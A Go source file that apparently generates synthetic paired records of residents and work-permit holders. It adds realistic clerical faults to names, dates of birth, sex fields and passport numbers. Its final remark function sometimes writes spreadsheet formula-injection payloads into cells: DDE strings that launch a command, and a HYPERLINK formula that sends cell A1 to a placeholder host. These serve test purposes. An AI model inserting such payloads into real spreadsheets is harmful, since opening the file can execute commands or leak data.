package demo

import (
	"slices"
	"strings"
)

// The first error process. Each rate is of one list or of pairs, as it says; the
// floor that the project asks for stands beside it. Differences between the two
// lists of a pair come from both: two independent rates of r give 1-(1-r)².
const (
	nameFault      = 0.203  // of names in each list: 36.5 % of pairs differ (floor 35 %)
	secondFault    = 0.18   // of faulty names, that have a second fault
	birthFault     = 0.0550 // of birth dates in each list: 10.6 % of pairs differ (floor 10 %)
	birthBlank     = 0.003  // of birth dates in each list
	passportAbsent = 0.085  // of permits have no passport number (floor 8 %)
	passportOther  = 0.205  // of pairs: one list has the former, one the present passport (floor 20 %)
	passportFault  = 0.074  // of pairs: the number is misread in one of the lists (floor 7 %)
	sexWrong       = 0.003  // of cells in each list
	sexBlank       = 0.010  // of cells in each list
	khmerDigits    = 0.004  // of dates in each list
	strayBlanks    = 0.015  // of names in each list
	otherCase      = 0.06   // of names in each list
	formulaCells   = 0.0005 // of rows in each list
)

// office is one of the two authorities that write a person down.
type office uint8

const (
	register office = iota // of residents: ISO dates, names in capitals and small letters
	bureau                 // of work permits: dates day first, capitals
)

// scribe is an error process: it writes down what is true as an office would.
// Each method draws from the stream it is given.
type scribe interface {
	// name writes a name.
	name(r *stream, x *human, in office) string
	// birth writes a date of birth, perhaps wrongly.
	birth(r *stream, born date, in office) string
	// date writes any other date. The date is the true one, the form may vary.
	date(r *stream, d date, in office) string
	// sex writes a sex.
	sex(r *stream, sex int, in office) string
	// numbers gives the passport that each office holds of one person, as written.
	numbers(r *stream, x *human) (inRegister, inBureau document)
	// remark sometimes spoils a cell of free text.
	remark(r *stream, cell string) string
}

// ear is the first error process: faults by rules, from a list of what is seen
// in life, with spelling by ear the most frequent.
type ear struct{}

func (ear) name(r *stream, x *human, in office) string {
	words := x.name.words
	if r.chance(nameFault) {
		words = earName(r, x)
	}
	s := title(words)
	if (in == bureau) != r.chance(otherCase) {
		s = strings.ToUpper(s)
	}
	if r.chance(strayBlanks) {
		s = spread(r, s)
	}
	return s
}

// spread puts blanks where none belong.
func spread(r *stream, s string) string {
	switch r.below(4) {
	case 0:
		return " " + s
	case 1:
		return s + "  "
	case 2:
		return strings.Replace(s, " ", "\u00a0", 1)
	}
	return strings.Replace(s, " ", "   ", 1)
}

// nameFaults are the faults of names with their weights. Each returns the new
// words, or nil where it does not apply. None changes the words it is given.
var nameFaults = []struct {
	weight int
	fault  func(r *stream, x *human, words []string) []string
}{
	{300, spelledByEar},
	{170, mistyped},
	{70, reordered},
	{95, wordMissing},
	{90, prophetShortened},
	{40, titled},
	{45, patronym},
	{60, joinedOrSplit},
	{30, repeated},
	{55, initials},
	{8, truncated},
	{45, thirdName},
	{8, nickname},
}

var nameFaultWeights = func() []int {
	w := make([]int, len(nameFaults))
	for i, f := range nameFaults {
		w[i] = f.weight
	}
	return w
}()

// earName applies a fault, sometimes two, to a person's name. The result always
// differs from the name.
func earName(r *stream, x *human) []string {
	words := x.name.words
	rounds := 1
	if r.chance(secondFault) {
		rounds = 2
	}
	for range rounds {
		for range 40 {
			next := nameFaults[r.weighted(nameFaultWeights)].fault(r, x, words)
			if next != nil && !slices.Equal(next, x.name.words) {
				words = next
				break
			}
		}
	}
	return words
}

// with returns the words with one of them changed.
func with(words []string, i int, w string) []string {
	out := slices.Clone(words)
	out[i] = w
	return out
}

// place says where in a word a spelling by ear occurs.
type place uint8

const (
	anywhere place = iota
	atEnd
	betweenVowels
)

// sounds are spellings that a clerk who hears the first may write as the second.
var sounds = hearings(anywhere, "f>p p>f v>f f>v v>p z>j j>z z>s s>z kh>h h>kh kh>k sy>s s>sy sy>sh sh>s u>oe oe>u j>dj c>tj ny>nj y>i ie>i i>y "+
	"dh>d d>dh th>t t>th q>k k>q ai>ae ae>ai au>ao ao>au ah>a o>u u>o o>u e>i i>e ks>x x>ks w>v v>w gh>g '> ph>f ch>kh dz>z iya>ia ia>iya uwa>ua ua>uwa "+
	"an>en er>ar ar>er um>om un>on ll>l nn>n mm>m tt>t ss>s rr>r dd>d kk>k aa>a ee>i oo>u ei>ai ng>n dj>j tj>c nj>ny ts>s ay>ai ai>ay uy>ui ow>au").
	and(atEnd, "a>ah b>p d>t t>d g>k k>g i>ie y>ie i>ih u>oe h> s>z n>nn").
	and(betweenVowels, "n>nn m>mm l>ll s>ss t>tt r>rr d>dd f>ff k>kk b>bb")

// hearing is one such spelling.
type hearing struct {
	from, to string
	at       place
}

type hearingList []hearing

func hearings(at place, rules string) hearingList { return hearingList{}.and(at, rules) }

func (l hearingList) and(at place, rules string) hearingList {
	for rule := range strings.FieldsSeq(rules) {
		from, to, _ := strings.Cut(rule, ">")
		l = append(l, hearing{from, to, at})
	}
	return l
}

// spelledByEar writes a word as it sounds.
func spelledByEar(r *stream, _ *human, words []string) []string {
	i := r.below(len(words))
	w := words[i]
	for range 25 {
		h := sounds[r.below(len(sounds))]
		at := strings.Index(w, h.from)
		if last := strings.LastIndex(w, h.from); last != at && (h.at == atEnd || r.below(2) == 0) {
			at = last
		}
		after := at + len(h.from)
		switch {
		case at < 0:
			continue
		case h.at == atEnd && after != len(w):
			continue
		case h.at == betweenVowels && (at == 0 || after == len(w) || !vowel(w[at-1]) || !vowel(w[after])):
			continue
		}
		if out := w[:at] + h.to + w[after:]; len(out) > 2 {
			return with(words, i, out)
		}
	}
	return nil
}

func vowel(c byte) bool { return strings.IndexByte("aeiou", c) >= 0 }

// besides are the keys beside each letter of the usual keyboard.
var besides = [26]string{
	"qsz", "vhn", "xvd", "sfe", "wrd", "dgr", "fht", "gjy", "uok", "hku", "jli", "ko", "nk", "bm",
	"ipl", "ol", "wa", "etf", "adw", "ryg", "yij", "cb", "qes", "zc", "tuh", "xa",
}

// mistyped makes one slip of the fingers.
func mistyped(r *stream, _ *human, words []string) []string {
	i := r.below(len(words))
	w := words[i]
	if len(w) < 3 {
		return nil
	}
	at := r.between(1, len(w)-1)
	switch r.below(6) {
	case 0:
		return with(words, i, w[:at-1]+string(w[at])+string(w[at-1])+w[at+1:])
	case 1:
		return with(words, i, w[:at]+w[at+1:])
	case 2:
		return with(words, i, w[:at]+string(w[at-1])+w[at:])
	case 3:
		if c := w[at]; c >= 'a' && c <= 'z' {
			return with(words, i, w[:at]+string(one(r, []byte(besides[c-'a'])))+w[at:])
		}
		return nil
	}
	if r.below(5) == 0 {
		at = 0
	}
	if c := w[at]; c >= 'a' && c <= 'z' {
		return with(words, i, w[:at]+string(one(r, []byte(besides[c-'a'])))+w[at+1:])
	}
	return nil
}

func reordered(r *stream, _ *human, words []string) []string {
	if len(words) < 2 {
		return nil
	}
	if r.below(3) > 0 { // the last word first, as where the family name leads
		return append([]string{words[len(words)-1]}, words[:len(words)-1]...)
	}
	out := slices.Clone(words)
	i := r.below(len(out) - 1)
	out[i], out[i+1] = out[i+1], out[i]
	return out
}

func wordMissing(r *stream, _ *human, words []string) []string {
	switch n := len(words); {
	case n < 2:
		return nil
	case n == 2:
		if r.below(4) == 0 || slices.Contains(neverAlone, words[0]) {
			return words[1:]
		}
		return words[:1]
	case r.below(2) == 0:
		return words[:n-1]
	default:
		return slices.Delete(slices.Clone(words), 1, 2)
	}
}

var prophetShort = strings.Fields("m. muh. moh. mohd mohd. md. m muh moch. mhd")

func prophetShortened(r *stream, _ *human, words []string) []string {
	if len(words) < 2 || !slices.Contains(prophetSpellings, words[0]) {
		return nil
	}
	if r.below(4) == 0 {
		return with(words, 0, one(r, prophetSpellings))
	}
	if r.below(6) == 0 {
		return words[1:]
	}
	return with(words, 0, one(r, prophetShort))
}

func titled(r *stream, x *human, words []string) []string {
	t := one(r, []string{"h.", "h.", "h", "drs.", "ir.", "tn.", "mr", "haji"})
	if x.sex == female {
		t = one(r, []string{"hj.", "hj.", "hj", "dra.", "ny.", "mrs", "ms", "hajah"})
	}
	if r.below(6) == 0 {
		return append(slices.Clone(words), one(r, []string{"s.e.", "s.h.", "s.kom", "a.md", "s.pd"}))
	}
	return append([]string{t}, words...)
}

func patronym(r *stream, x *human, words []string) []string {
	if !x.culture.muslim() || slices.Contains(words, x.name.father) || len(words) > 3 {
		return nil
	}
	m := one(r, []string{"bin", "bin", "b."})
	if x.sex == female {
		m = one(r, []string{"binti", "binti", "bt", "bte"})
	}
	return append(slices.Clone(words), m, x.name.father)
}

func joinedOrSplit(r *stream, _ *human, words []string) []string {
	if len(words) > 1 && r.below(3) > 0 {
		i := r.below(len(words) - 1)
		out := with(words, i, words[i]+words[i+1])
		return slices.Delete(out, i+1, i+2)
	}
	i := r.below(len(words))
	w := words[i]
	if len(w) < 7 {
		return nil
	}
	at := r.between(3, len(w)-3)
	if !vowel(w[at-1]) && at > 3 { // between syllables rather
		at--
	}
	return slices.Insert(with(words, i, w[:at]), i+1, w[at:])
}

// repeated fills both halves of a form with the only name.
func repeated(_ *stream, _ *human, words []string) []string {
	if len(words) != 1 {
		return nil
	}
	return []string{words[0], words[0]}
}

func initials(r *stream, _ *human, words []string) []string {
	if len(words) < 2 {
		return nil
	}
	i := len(words) - 1
	if len(words) > 2 || r.below(3) == 0 {
		i = r.below(len(words))
	}
	if len(words[i]) < 3 {
		return nil
	}
	short := words[i][:1]
	if r.below(2) == 0 {
		short += "."
	}
	return with(words, i, short)
}

// truncated cuts a name at the width of a field.
func truncated(r *stream, _ *human, words []string) []string {
	s := strings.Join(words, " ")
	width := one(r, []int{20, 24, 30})
	if len(s) <= width {
		return nil
	}
	return strings.Fields(s[:width])
}

var grandfathers = strings.Fields(fathers)

// thirdName adds the father's, and to a single name the grandfather's name, as
// passports for pilgrims have it.
func thirdName(r *stream, x *human, words []string) []string {
	if !x.culture.muslim() || len(words) > 2 || slices.Contains(words, x.name.father) {
		return nil
	}
	out := append(slices.Clone(words), x.name.father)
	if len(out) == 2 && r.below(2) == 0 {
		if g := one(r, grandfathers); g != x.name.father {
			out = append(out, g)
		}
	}
	return out
}

// nickname keeps the end of the first word, as people are called.
func nickname(r *stream, _ *human, words []string) []string {
	w := words[0]
	if len(w) < 6 {
		return nil
	}
	return with(words, 0, w[len(w)-r.between(3, 4):])
}

func (ear) birth(r *stream, born date, in office) string {
	if r.chance(birthBlank) {
		return ""
	}
	if !r.chance(birthFault) {
		return ear{}.date(r, born, in)
	}
	for {
		d := born
		switch r.weighted([]int{26, 14, 24, 8, 8, 14, 6}) {
		case 0: // day and month swapped
			d.day, d.month = d.month, d.day
		case 1: // only the year is known
			return yearOnly(r, d.year, in)
		case 2: // one digit
			d = oneDigit(r, d)
		case 3: // the first of January, where a form wants a full date
			d.day, d.month = 1, 1
		case 4: // ten years off
			d.year += 10 * (2*r.below(2) - 1)
		case 5: // the key beside: one off in one of the parts
			step := 2*r.below(2) - 1
			switch r.below(3) {
			case 0:
				d.day += step
			case 1:
				d.month += step
			default:
				d.year += step
			}
		default: // two digits of the year swapped
			d.year = d.year/100*100 + d.year%10*10 + d.year/10%10
		}
		if d != born && d.real() && d.year > 1930 && d.year < today.Year() {
			return ear{}.date(r, d, in)
		}
	}
}

func yearOnly(r *stream, year int, in office) string {
	y := itoa(year)
	if r.below(2) == 0 {
		return y
	}
	if in == bureau {
		return "00/00/" + y
	}
	return y + "-00-00"
}

// oneDigit changes one digit of the date, one time in three to a look-alike.
func oneDigit(r *stream, d date) date {
	s := []byte(d.dayFirst('/'))
	at := one(r, []int{0, 1, 3, 4, 8, 9, 9})
	if r.below(3) == 0 {
		s[at] = lookAlikeDigit[s[at]-'0']
	} else {
		s[at] = byte('0' + r.below(10))
	}
	n := func(b []byte) int { return int(b[0]-'0')*10 + int(b[1]-'0') }
	return date{n(s[6:8])*100 + n(s[8:10]), n(s[3:5]), n(s[0:2])}
}

// lookAlikeDigit is a digit that looks like each digit in print or handwriting.
var lookAlikeDigit = [10]byte{'8', '7', '7', '8', '9', '6', '8', '1', '3', '4'}

func (ear) date(r *stream, d date, in office) string {
	s := d.iso()
	if in == bureau {
		separator := byte('/')
		if r.below(12) == 0 {
			separator = one(r, []byte{'-', '.'})
		}
		s = d.dayFirst(separator)
	}
	if r.chance(khmerDigits) {
		return inKhmerDigits(s)
	}
	return s
}

func inKhmerDigits(s string) string {
	return strings.Map(func(c rune) rune {
		if c >= '0' && c <= '9' {
			return c - '0' + '០'
		}
		return c
	}, s)
}

func (ear) sex(r *stream, sex int, in office) string {
	if r.chance(sexBlank) {
		return ""
	}
	if r.chance(sexWrong) {
		sex = 1 - sex
	}
	if in == bureau {
		return [...]string{male: "MALE", female: "FEMALE"}[sex]
	}
	return [...]string{male: "M", female: "F"}[sex]
}

// numbers draws one of four cases for the pair: absent, renewed, misread, equal.
func (ear) numbers(r *stream, x *human) (inRegister, inBureau document) {
	inRegister, inBureau = x.passport, x.passport
	const whole = 1_000_000
	n := r.below(whole)
	is := func(rate float64) bool {
		n -= int(rate * whole)
		return n < 0
	}
	switch {
	case is(passportAbsent):
		inBureau = document{}
	case is(passportOther):
		if r.below(2) == 0 {
			inRegister = x.former
		} else {
			inBureau = x.former
		}
	case is(passportFault):
		if r.below(2) == 0 {
			inRegister.number = misread(r, x.passport.number)
		} else {
			inBureau.number = misread(r, x.passport.number)
		}
	}
	return inRegister, inBureau
}

// misread makes one fault in a number: a look-alike, a wrong key, two signs
// changed about, one dropped, one doubled.
func misread(r *stream, s string) string {
	for {
		b := []byte(s)
		at := r.below(len(b))
		switch r.below(6) {
		case 0, 1:
			b[at] = lookAlike(r, b[at])
		case 2:
			if at > 0 {
				b[at] = byte('0' + r.below(10))
			}
		case 3:
			if at+1 < len(b) && at > 0 {
				b[at], b[at+1] = b[at+1], b[at]
			}
		case 4:
			b = slices.Delete(b, at, at+1)
		default:
			b = slices.Insert(b, at, b[at])
		}
		if string(b) != s {
			return string(b)
		}
	}
}

// lookAlike confuses a sign as optical reading does, digits with letters too.
func lookAlike(r *stream, c byte) byte {
	switch c {
	case '0':
		return one(r, []byte("O8D"))
	case '1':
		return one(r, []byte("I7L"))
	case '2':
		return one(r, []byte("Z7"))
	case '5':
		return one(r, []byte("S6"))
	case '6':
		return one(r, []byte("G8"))
	case '8':
		return one(r, []byte("B3"))
	case 'B':
		return '8'
	case 'E':
		return one(r, []byte("F3"))
	case 'C':
		return one(r, []byte("G0"))
	case 'A':
		return '4'
	case 'X':
		return one(r, []byte("K"))
	}
	if c >= '0' && c <= '9' {
		return lookAlikeDigit[c-'0']
	}
	return c
}

func (ear) remark(r *stream, cell string) string {
	if r.chance(formulaCells) {
		return one(r, []string{`=cmd|' /C calc'!A0`, `=HYPERLINK("http://example.invalid/"&A1,"open")`, `@SUM(1+1)*cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, "+" + cell, "=" + cell})
	}
	return cell
}
